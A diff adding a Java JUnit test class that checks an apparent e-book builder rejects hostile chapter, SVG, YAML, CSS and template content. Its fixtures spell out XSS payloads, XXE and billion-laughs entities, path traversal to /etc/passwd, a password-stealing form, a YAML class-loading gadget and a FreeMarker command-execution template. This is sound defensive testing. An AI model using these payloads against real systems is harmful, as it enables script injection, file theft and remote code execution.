@@ -1,0 +1,334 @@
+package org.coursebook.reliability;
+
+import org.coursebook.diag.Diagnostic;
+import org.coursebook.diag.Diagnostics;
+import org.coursebook.read.StyleChecker;
+import org.coursebook.read.SvgChecker;
+import org.coursebook.render.Templates;
+import org.coursebook.support.TestBook;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.List;
+import java.util.Map;
+
+import static org.coursebook.support.TestBook.error;
+import static org.coursebook.support.TestBook.noErrors;
+import static org.junit.jupiter.api.Assertions.*;
+
+/**
+ * A book built from shared files must not be a way in: scripts, event handlers, active links, embedded pages and
+ * forms, anything loaded from elsewhere, paths out of the book's folder, and XML tricks are refused, each with
+ * an error at its file and line.
+ */
+class HostileContentTest {
+    @TempDir
+    Path tmp;
+
+    TestBook book() {
+        return TestBook.create(tmp.resolve("book"));
+    }
+
+    // ---- HTML in chapters ----
+
+    @Test
+    void scriptInAnHtmlBlockIsReportedAtItsOwnLine() {
+        List<Diagnostic> ds = book().body("Text.\n\n<div>\n<p>Fine.</p>\n  <script>alert(document.cookie)</script>\n</div>\n").check();
+        Diagnostic d = error(ds, "ch.md", 11, "<script> is not allowed");
+        assertEquals(3, d.pos().column());
+    }
+
+    @Test
+    void eventHandlerAttributes() {
+        List<Diagnostic> ds = book().body("Text.\n\nA picture <b onmouseover=\"steal()\">here</b>\nand <i ONCLICK='x()'>there</i>.\n").check();
+        error(ds, "ch.md", 9, "the event handler attribute 'onmouseover' is not allowed");
+        error(ds, "ch.md", 10, "the event handler attribute 'onclick' is not allowed");
+    }
+
+    @Test
+    void javascriptLinksInMarkdownAndHtmlEvenDisguised() {
+        List<Diagnostic> ds = book().body("""
+                Text.
+
+                A [Markdown link](javascript:alert(1)).
+
+                <p><a href="JaVa&#83;cript:alert(1)">entity-disguised</a></p>
+
+                <p><a href=" java\tscript:alert(1)">tab-disguised</a> <a href="vbscript:x">vb</a></p>
+                """).check();
+        error(ds, "ch.md", 9, "'javascript:' link is not allowed");
+        error(ds, "ch.md", 11, "'javascript:' link is not allowed");
+        error(ds, "ch.md", 13, "'javascript:' link is not allowed");
+        error(ds, "ch.md", 13, "'vbscript:' link is not allowed");
+    }
+
+    @Test
+    void otherSchemesInLinksAreRefused() {
+        List<Diagnostic> ds = book().body("Text.\n\nSee [the password file](file:///etc/passwd) or <a href=\"data:text/html,<b>x</b>\">this</a>.\n").check();
+        error(ds, "ch.md", 9, "'file:///etc/passwd' uses an unsupported scheme");
+        error(ds, "ch.md", 9, "'data:' link is not allowed");
+    }
+
+    @Test
+    void embeddedPagesObjectsAndForms() {
+        List<Diagnostic> ds = book().body("""
+                Text.
+
+                <iframe src="page.html"></iframe>
+
+                <object data="x.swf"></object>
+
+                <embed src="x.swf">
+
+                <form action="https://example.org/steal"><input name="password"><button>Send</button></form>
+
+                <svg xmlns="http://www.w3.org/2000/svg"><foreignObject><p>HTML</p></foreignObject></svg>
+                """).check();
+        error(ds, "ch.md", 9, "<iframe> is not allowed");
+        error(ds, "ch.md", 11, "<object> is not allowed");
+        error(ds, "ch.md", 13, "<embed> is not allowed");
+        error(ds, "ch.md", 15, "<form> is not allowed");
+        error(ds, "ch.md", 17, "<foreignobject> is not allowed");
+    }
+
+    @Test
+    void remoteImagesAndMedia() {
+        List<Diagnostic> ds = book().body("""
+                Text.
+
+                ![A remote picture](https://example.org/tracker.png)
+
+                <p><img src="//example.org/pixel.gif" alt="pixel"></p>
+
+                <p>A <span style="background: url(https://example.org/bg.png)">background</span>.</p>
+
+                <video src="clip.mp4"></video>
+
+                <svg xmlns="http://www.w3.org/2000/svg"><image href="http://example.org/x.png"/></svg>
+                """).check();
+        error(ds, "ch.md", 9, "the remote resource 'https://example.org/tracker.png' is not allowed");
+        error(ds, "ch.md", 11, "the remote resource '//example.org/pixel.gif' is not allowed");
+        error(ds, "ch.md", 13, "a style attribute that loads a resource is not allowed");
+        error(ds, "ch.md", 15, "<video> is not allowed");
+        error(ds, "ch.md", 17, "the remote resource 'http://example.org/x.png' is not allowed");
+    }
+
+    @Test
+    void declarationsAndProcessingInstructionsInRawHtml() {
+        List<Diagnostic> ds = book().body("""
+                Text.
+
+                <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
+
+                <?xml-stylesheet href="https://example.org/x.css"?>
+
+                A paragraph &e;.
+                """).check();
+        error(ds, "ch.md", 9, "'<!DOCTYPE' is not allowed in a chapter");
+        error(ds, "ch.md", 11, "'<?xml-stylesheet' is not allowed in a chapter");
+    }
+
+    @Test
+    void plainLinksToTheWebAreFine() {
+        noErrors(book().body("Text.\n\nSee <https://example.org> and [this](https://example.org/page \"Page\").\n\n## S\n").check());
+    }
+
+    // ---- paths ----
+
+    @Test
+    void imagePathsThatLeaveTheBookFolder() {
+        List<Diagnostic> ds = book().body("""
+                Text.
+
+                ![up](../../etc/passwd.png)
+
+                ![absolute](/etc/passwd.png)
+
+                ![encoded](%2e%2e/%2e%2e/etc/passwd.png)
+
+                ![windows](C:/Windows/win.ini.png)
+                """).check();
+        error(ds, "ch.md", 9, "leaves the book's folder");
+        error(ds, "ch.md", 11, "is absolute");
+        error(ds, "ch.md", 13, "leaves the book's folder");
+        error(ds, "ch.md", 15, "the path 'C:/Windows/win.ini.png' is absolute");
+    }
+
+    @Test
+    void imageThatIsALinkToAFileOutside() throws Exception {
+        Path outside = Files.write(tmp.resolve("secret.png"), Fixtures.PNG);
+        TestBook b = book().body("Text.\n\n![linked](images/linked.png)\n");
+        Files.createDirectories(b.path("images"));
+        Files.createSymbolicLink(b.path("images/linked.png"), outside);
+        error(b.check(), "ch.md", 9, "is a link to a file outside the book's folder");
+    }
+
+    @Test
+    void imageFolderThatIsALinkToAFolderOutside() throws Exception {
+        Path outsideDir = Files.createDirectories(tmp.resolve("elsewhere"));
+        Files.write(outsideDir.resolve("p.png"), Fixtures.PNG);
+        TestBook b = book().body("Text.\n\n![linked](pictures/p.png)\n");
+        Files.createSymbolicLink(b.path("pictures"), outsideDir);
+        error(b.check(), "ch.md", 9, "is a link to a file outside the book's folder");
+    }
+
+    // ---- SVG images ----
+
+    List<Diagnostic> svg(String name, String content) {
+        TestBook b = book().file("images/" + name, content).body("Text.\n\n![A drawing](images/" + name + ")\n\n## S\n");
+        return b.check();
+    }
+
+    @Test
+    void aPlainSvgIsAccepted() {
+        noErrors(svg("ok.svg", Fixtures.SVG));
+    }
+
+    @Test
+    void svgWithExternalEntity() {
+        List<Diagnostic> ds = svg("xxe.svg", """
+                <?xml version="1.0"?>
+                <!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+                <svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>
+                """);
+        Diagnostic d = error(ds, "xxe.svg", 2, "the SVG has a DOCTYPE declaration");
+        assertTrue(d.message().contains("(the image is used at ch.md:9)"), d.message());
+        assertTrue(TestBook.show(ds).lines().noneMatch(l -> l.contains("root:")), "nothing of /etc/passwd leaks into messages");
+    }
+
+    @Test
+    void svgBillionLaughs() {
+        StringBuilder dtd = new StringBuilder("<!DOCTYPE svg [\n<!ENTITY l0 \"ha\">\n");
+        for (int i = 1; i <= 10; i++) dtd.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">\n");
+        dtd.append("]>\n");
+        List<Diagnostic> ds = svg("laughs.svg", "<?xml version=\"1.0\"?>\n" + dtd + "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&l10;</text></svg>\n");
+        error(ds, "laughs.svg", 2, "DOCTYPE");
+    }
+
+    @Test
+    void svgWithScriptEventHandlerAndForeignObject() {
+        List<Diagnostic> ds = svg("active.svg", """
+                <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">
+                  <script>alert(2)</script>
+                  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">HTML</div></foreignObject>
+                  <a href="javascript:alert(3)"><rect width="1" height="1"/></a>
+                  <set attributeName="href" to="javascript:alert(4)"/>
+                </svg>
+                """);
+        error(ds, "active.svg", 1, "event handler attribute 'onload'");
+        error(ds, "active.svg", 2, "contains a <script>");
+        error(ds, "active.svg", 3, "<foreignObject>");
+        error(ds, "active.svg", 4, "refers to 'javascript:alert(3)'");
+        error(ds, "active.svg", 5, "animates the attribute 'href'");
+    }
+
+    @Test
+    void svgWithExternalReferences() {
+        List<Diagnostic> ds = svg("external.svg", """
+                <?xml version="1.0"?>
+                <?xml-stylesheet href="https://example.org/style.css"?>
+                <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
+                  <image xlink:href="http://example.org/tracker.png" width="1" height="1"/>
+                  <image href="file:///etc/passwd" width="1" height="1"/>
+                  <use href="other.svg#shape"/>
+                  <rect style="fill: url(https://example.org/pattern.svg#p)" width="1" height="1"/>
+                  <style>@import url("https://example.org/font.css");</style>
+                  <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
+                  <rect fill="url(#local)" width="1" height="1"/>
+                </svg>
+                """);
+        error(ds, "external.svg", 2, "processing instruction <?xml-stylesheet");
+        error(ds, "external.svg", 4, "refers to 'http://example.org/tracker.png'");
+        error(ds, "external.svg", 5, "refers to 'file:///etc/passwd'");
+        error(ds, "external.svg", 6, "refers to 'other.svg#shape'");
+        error(ds, "external.svg", 7, "style loads 'https://example.org/pattern.svg#p'");
+        error(ds, "external.svg", 8, "imports another stylesheet");
+        assertEquals(6, ds.stream().filter(Diagnostic::isError).count(), "an embedded PNG and a url(#id) are fine:\n" + TestBook.show(ds));
+    }
+
+    @Test
+    void svgThatIsNotWellFormed() {
+        List<Diagnostic> ds = svg("broken.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <g>\n    <rect/>\n  </svg>\n");
+        error(ds, "broken.svg", 4, "the SVG is not well-formed XML");
+    }
+
+    @Test
+    void fileNamedSvgThatIsNotSvg() {
+        error(svg("page.svg", "<html><body>hello</body></html>\n"), "page.svg", 1, "not an SVG <svg> element");
+    }
+
+    @Test
+    void svgNestedTooDeeply() {
+        String deep = "<svg xmlns=\"http://www.w3.org/2000/svg\">\n" + "<g>".repeat(5000) + "</g>".repeat(5000) + "\n</svg>\n";
+        error(svg("deep.svg", deep), "deep.svg", 2, "nested more than " + SvgChecker.MAX_DEPTH + " levels");
+    }
+
+    @Test
+    void svgUsedTwiceIsReportedOnce() {
+        TestBook b = book().file("images/bad.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>")
+                .body("Text.\n\n![One](images/bad.svg)\n\n![Two](images/bad.svg)\n");
+        List<Diagnostic> ds = b.check();
+        assertEquals(1, ds.stream().filter(d -> d.message().contains("<script>")).count(), TestBook.show(ds));
+    }
+
+    // ---- YAML ----
+
+    @Test
+    void yamlAliasBombInTheManifest() {
+        StringBuilder y = new StringBuilder(TestBook.MANIFEST);
+        y.append("description: &a0 [x, x, x, x, x, x, x, x, x]\n");
+        for (int i = 1; i <= 30; i++) y.append("d").append(i).append(": &a").append(i).append(" [*a").append(i - 1).append(", *a").append(i - 1).append("]\n");
+        List<Diagnostic> ds = book().file("book.yaml", y.toString()).check();
+        assertTrue(ds.stream().anyMatch(d -> d.isError() && d.pos().file().endsWith("book.yaml") && d.message().contains("YAML")),
+                TestBook.show(ds));
+    }
+
+    @Test
+    void yamlTagsCreateNoObjects() {
+        // the YAML is composed into nodes, never constructed: a global tag names a class but nothing is made of it
+        List<Diagnostic> ds = book().file("ch.md", "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.org/\"]]]]\n---\n\nText.\n").check();
+        error(ds, "ch.md", 2, "YAML tags that name Java classes (!!java…) are not allowed");
+    }
+
+    // ---- stylesheets and templates ----
+
+    @Test
+    void remoteFontsAndImportsInTheBooksStylesheets() throws Exception {
+        Path styles = Files.createDirectories(tmp.resolve("styles"));
+        Files.writeString(styles.resolve("epub.css"), """
+                /* a comment with url(https://example.org/ignored.woff) */
+                @import "https://example.org/theme.css";
+                @font-face { font-family: X; src: url("https://example.org/x.woff2"); }
+                body { background: url(/etc/secret.png); }
+                .fine { background: url(../images/local.png); }
+                p { behavior: url(x.htc); }
+                """);
+        Diagnostics diag = new Diagnostics();
+        StyleChecker.check(styles, diag);
+        List<Diagnostic> ds = diag.all();
+        error(ds, "epub.css", 2, "imports 'https://example.org/theme.css'");
+        error(ds, "epub.css", 3, "loads 'https://example.org/x.woff2'");
+        error(ds, "epub.css", 4, "loads '/etc/secret.png'");
+        error(ds, "epub.css", 6, "contains a script");
+        assertEquals(4, ds.size(), TestBook.show(ds));
+    }
+
+    @Test
+    void stylesheetProblemsStopTheBuild() throws Exception {
+        TestBook b = book();
+        Files.createDirectories(b.path("styles"));
+        b.file("styles/print.css", "@font-face { src: url(http://example.org/f.ttf) }\n");
+        error(b.check(), "print.css", 1, "from outside the book");
+    }
+
+    @Test
+    void overriddenTemplatesCannotRunJava() throws Exception {
+        Path dir = Files.createDirectories(tmp.resolve("templates"));
+        Files.writeString(dir.resolve("evil.ftl"), "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}");
+        Templates t = new Templates(dir);
+        Exception e = assertThrows(IllegalStateException.class, () -> t.render("evil.ftl", Map.of()));
+        assertTrue(String.valueOf(e.getCause()).contains("Execute"), String.valueOf(e.getCause()));
+    }
+}
